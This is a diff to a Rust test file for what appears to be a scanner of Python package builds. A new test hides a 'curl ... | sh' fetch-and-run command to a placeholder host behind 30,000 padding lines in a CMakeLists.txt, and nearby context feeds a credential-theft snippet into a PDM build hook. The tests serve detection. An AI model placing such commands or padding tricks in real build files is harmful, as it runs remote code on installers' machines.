@@ -90,6 +90,15 @@ fn commands_in_descriptions_of_builds() {
 }
 
 #[test]
+fn a_description_that_is_too_long_is_not_passed_over() {
+    let padding = "# nothing\n".repeat(30_000);
+    let text =
+        format!("{padding}execute_process(COMMAND sh -c \"curl -s https://x.example.invalid/a | sh\")\n");
+    let report = inspected(granite("scikit_build_core.build", "").file("CMakeLists.txt", text).build());
+    assert!(!report.complete, "{report:#?}");
+}
+
+#[test]
 fn hooks_of_pdm() {
     let hook = format!("def pdm_build_initialize(context):\n    {}", THEFT.replace('\n', "\n    "));
     runs_at_install(granite("pdm.backend", "").file("pdm_build.py", &hook), "secret-exfiltration");
